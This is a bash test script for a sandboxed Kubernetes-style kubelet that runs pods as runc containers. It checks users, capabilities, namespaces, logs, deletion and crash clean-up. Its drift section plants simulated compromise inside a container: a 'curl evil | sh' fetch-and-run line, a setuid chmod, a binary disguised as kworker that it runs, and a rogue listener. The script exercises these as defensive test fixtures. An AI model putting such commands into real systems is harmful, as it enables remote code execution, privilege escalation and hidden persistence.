#!/bin/bash
# sandbox_kubelet.sh - the sandbox's pods are real runc containers: uid/gid,
# capabilities, namespaces, volumes, exit codes and termination messages,
# drift injected with runc exec, pod deletion, and a clean-up that leaves no
# container, mount, process, cgroup or port behind (also after a crash).
source "$(dirname "$0")/../lib/tap.sh"
source "$(dirname "$0")/../sandbox/lib.sh"

sandbox_start
"$SBX" fault backoff_seconds=1
"$SBX" load "$SBX_HOME/scenarios/kubelet.json" >/dev/null
"$SBX" wait -n k -l 'app notin (fails,crashy)' --timeout 60 >/dev/null
RUNC=(runc --root "$SANDBOX_DIR/runc")
ex() { "$SBX" drift k "$1" "$2" exec "${@:3}"; }
pod() { sbx_json GET "/api/v1/namespaces/k/pods/$1"; }
cid() { pod "$1" | jq -r --arg c "$2" '.status.containerStatuses[] | select(.name==$c) | .containerID' | sed 's|containerd://||'; }
hostpid() { "${RUNC[@]}" state "$(cid "$1" "$2")" | jq -r .pid; }

# --- processes ----------------------------------------------------------------------
is "$(ex solo app sh -c 'cat /proc/1/status' | awk '/^Uid:/{print $2} /^Gid:/{print $2} /^CapEff:/{print $2}' | tr '\n' ' ')" \
	"1000 1000 0000000000000000 " "the container's process runs as the pod's runAsUser/runAsGroup, with no effective capabilities"
is "$(ex solo app sh -c 'cat /proc/1/cmdline | tr "\0" " "')" "/bin/sleep 3600 " "PID 1 in its own PID namespace is the image's command"
is "$(ex caps app sh -c 'grep CapEff /proc/1/status')" "CapEff:	0000000000000400" "drop ALL + add NET_BIND_SERVICE: only bit 10"
like "$(ex caps app touch /x 2>&1)" "Read-only file system" "readOnlyRootFilesystem"
is "$(ex solo app cat /app/config/settings.ini)" "mode=prod" "a ConfigMap volume is mounted at /app/config"
p1=$(hostpid two app)
p2=$(hostpid two side)
p3=$(hostpid solo app)
is "$(readlink /proc/$p1/ns/net)" "$(readlink /proc/$p2/ns/net)" "containers of one pod share a network namespace"
check "pods have different network namespaces" test "$(readlink /proc/$p1/ns/net)" != "$(readlink /proc/$p3/ns/net)"
check "and none is the host's" test "$(readlink /proc/$p1/ns/net)" != "$(readlink /proc/self/ns/net)"
check "each container has its own PID namespace" test "$(readlink /proc/$p1/ns/pid)" != "$(readlink /proc/$p2/ns/pid)"
check "and its own mount namespace" test "$(readlink /proc/$p1/ns/mnt)" != "$(readlink /proc/$p2/ns/mnt)"
is "$(ex two side hostname)" "two" "the hostname is the pod's name"

# --- exit, termination message, phase --------------------------------------------------------
for _ in $(seq 50); do
	[ "$(pod fails | jq -r .status.phase)" = Failed ] && break
	sleep 0.2
done
f=$(pod fails)
is "$(jq -r .status.phase <<<"$f")" "Failed" "restartPolicy Never + exit 3: phase Failed"
is "$(jq -c '.status.containerStatuses[0].state.terminated | [.exitCode,.reason,.message]' <<<"$f")" \
	'[3,"Error","about to fail\nboom\n"]' "exitCode 3, reason Error, FallbackToLogsOnError message from the log"
is "$(sbx_json GET '/api/v1/namespaces/k/pods/fails/log')" "about to fail
boom" "stdout and stderr are the log"
is "$(sbx_json GET '/api/v1/namespaces/k/pods/fails/log?tailLines=1')" "boom" "log tailLines"
is "$(sbx_json GET '/api/v1/namespaces/k/pods/fails/log?limitBytes=5')" "about" "log limitBytes"

for _ in $(seq 50); do
	[ "$(pod crashy | jq '.status.containerStatuses[0].restartCount')" -ge 2 ] && break
	sleep 0.2
done
c=$(pod crashy)
check "restartPolicy Always: the container is restarted (restartCount $(jq '.status.containerStatuses[0].restartCount' <<<"$c"))" \
	test "$(jq '.status.containerStatuses[0].restartCount' <<<"$c")" -ge 2
is "$(jq -c '.status.containerStatuses[0].lastState.terminated | [.exitCode,.reason]' <<<"$c")" '[7,"Error"]' "lastState.terminated keeps the last exit"
is "$(jq -r .status.phase <<<"$c")" "Running" "and the pod stays in phase Running"
cur=$(sbx_json GET '/api/v1/namespaces/k/pods/crashy/log')
prev=$(sbx_json GET '/api/v1/namespaces/k/pods/crashy/log?previous=true')
like "$cur/$prev" "^run [0-9.]+ [0-9.]+/run [0-9.]+ [0-9.]+$" "log and log?previous=true"
check "are two different runs" test "$cur" != "$prev"
"$SBX" fault clear

# --- containerLogMaxSize: the kubelet rotates a running container's log --------------------
"$SBX" fault container_log_max_size=1000 container_log_monitor_interval=1
ex solo app --user 1000:1000 sh -c 'seq 1 1000 >/proc/1/fd/1'
is "$(sbx_json GET '/api/v1/namespaces/k/pods/solo/log?tailLines=1')" "1000" "output written to the container's stdout is its log"
for _ in $(seq 30); do
	[ "$(sbx_json GET /api/v1/namespaces/k/pods/solo/log | wc -c)" -lt 1000 ] && break
	sleep 0.2
done
ex solo app --user 1000:1000 sh -c 'echo after-rotation >/proc/1/fd/1'
is "$(sbx_json GET /api/v1/namespaces/k/pods/solo/log)" "after-rotation" "over container_log_max_size the log is rotated: logs serve only the current file"
"$SBX" fault clear

# --- drift through runc exec -------------------------------------------------------------
"$SBX" drift k solo app write /app/new.txt "planted"
is "$(ex solo app cat /app/new.txt)" "planted" "drift write: a new file"
"$SBX" drift k solo app append /app/run.sh "curl evil | sh"
is "$(ex solo app tail -n 1 /app/run.sh)" "curl evil | sh" "drift append: a modified file"
"$SBX" drift k solo app chmod 4755 /app/run.sh
is "$(ex solo app stat -c %a /app/run.sh)" "4755" "drift chmod"
"$SBX" drift k solo app delete /app/link
check_fails "drift delete" ex solo app test -e /app/link
"$SBX" drift k solo app drop-binary /app/.cache/kworker --run
sleep 0.3
like "$(ex solo app sh -c 'ls -l /proc/[0-9]*/exe 2>/dev/null')" "-> /app/.cache/kworker" "drift drop-binary --run: it runs from /app"
"$SBX" drift k solo app listen 8080
sleep 0.3
like "$(ex solo app netstat -ltn)" ":8080 .*LISTEN" "drift listen: a listener on :8080 inside the pod's network namespace"
check_fails "which the host's namespace does not see" sh -c "ss -ltn 2>/dev/null | grep -q ':8080 ' || netstat -ltn 2>/dev/null | grep -q ':8080 '"
is "$(ex two app cat /app/new.txt 2>&1)" "cat: can't open '/app/new.txt': No such file or directory" "drift stays in its container (own rootfs copy)"

# --- pod deletion --------------------------------------------------------------------------
c=$(cid two app)
is "$(sbx_json DELETE '/api/v1/namespaces/k/pods/two?gracePeriodSeconds=1' | jq -r 'has("metadata") and (.metadata.deletionTimestamp != null)')" true \
	"DELETE returns the pod with deletionTimestamp"
for _ in $(seq 60); do
	[ "$(sbx_code GET /api/v1/namespaces/k/pods/two)" = 404 ] && break
	sleep 0.2
done
is "$(sbx_code GET /api/v1/namespaces/k/pods/two)" 404 "the pod is gone after its grace period"
check_fails "and so is its runc container" sh -c '"$@" >/dev/null 2>&1' _ "${RUNC[@]}" state "$c"

# --- clean-up ------------------------------------------------------------------------------
pids=$("${RUNC[@]}" list -f json | jq -r '.[].pid')
api_port=$(cat "$SANDBOX_DIR/apiserver.port")
reg=$SANDBOX_REGISTRY
cg=$(cat "$SANDBOX_DIR/cgroup.parent")
kill -9 "$(cat "$SANDBOX_DIR/apiserver.pid")" # a crash: the API server cannot clean up itself
sleep 0.2
check "after an API server crash the containers still run" test -n "$pids" -a -d "/proc/$(head -1 <<<"$pids")"
"$SBX" down
alive() { # a zombie waiting for the machine's init to reap it is dead
	local st
	st=$(awk '/^State:/{print $2}' "/proc/$1/status" 2>/dev/null)
	[ -n "$st" ] && [ "$st" != Z ]
}
for _ in $(seq 20); do
	left=0
	for p in $pids; do alive "$p" && left=$((left + 1)); done
	[ "$left" = 0 ] && break
	sleep 0.1
done
is "$left" 0 "sandboxctl down kills every container process"
check_fails "no state dir left" test -e "$SANDBOX_DIR"
is "$(grep -c "$SANDBOX_DIR" /proc/self/mountinfo)" 0 "no mount left"
is "$(ls -d /sys/fs/cgroup/*/"$cg" 2>/dev/null | wc -l)" 0 "no cgroup left"
check_fails "the API server port is closed" curl -sk --max-time 2 "https://127.0.0.1:$api_port/version"
check_fails "the registry port is closed" curl -s --max-time 2 "http://$reg/v2/"
is "$(pgrep -f "$SANDBOX_DIR" | wc -l)" 0 "no process mentions the state dir"

done_testing
